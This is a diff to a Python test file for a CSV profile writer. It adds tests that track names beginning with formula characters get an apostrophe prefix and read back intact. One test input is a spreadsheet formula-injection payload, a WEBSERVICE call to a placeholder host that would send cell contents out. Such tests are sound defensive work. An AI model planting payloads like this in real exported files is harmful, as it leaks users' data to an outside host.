@@ -1,5 +1,6 @@
 """CSV keeps every digit, finds the interval that the distances were rounded from, names rows."""
 
+import csv
 import re
 import tempfile
 from pathlib import Path
@@ -70,6 +71,24 @@ def test_the_columns_are_those_of_the_contract(tmp_path: Path) -> None:
         "1.0,0.5,1,0.1,0\n"
         "1.25,nan,0,2.0,1\n"
     )
+
+
+@pytest.mark.parametrize(
+    "name", ['=WEBSERVICE("http://a.example/"&A2)&', "+1+1", "-2", "@SUM(A1)", " =1", "\t=1", "\r="]
+)
+def test_no_name_is_a_formula_and_each_reads_back(name: str, tmp_path: Path) -> None:
+    path = tmp_path / "p.csv"
+    write_profile_csv(Profile(0.25, (ProfileTrack.of(name, [0.5, 1.0]),)), path)
+    with path.open(encoding="utf-8", newline="") as stream:
+        assert [cell[0] for cell in next(csv.reader(stream))] == ["d", "'", "'"]
+    assert [track.name for track in read_profile(path).tracks] == [name]
+
+
+def test_names_of_other_programs_are_read_as_they_are(tmp_path: Path) -> None:
+    names = ("=a", "'b", "c\\x41")
+    head = ",".join(["distance_m", *(f"{name}_elevation_m" for name in names)])
+    (tmp_path / "p.csv").write_text(f"{head}\n0,1,2,3\n1,1,2,3\n")
+    assert tuple(track.name for track in read_profile(tmp_path / "p.csv").tracks) == names
 
 
 def test_pieces_of_rows_leave_no_seam(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
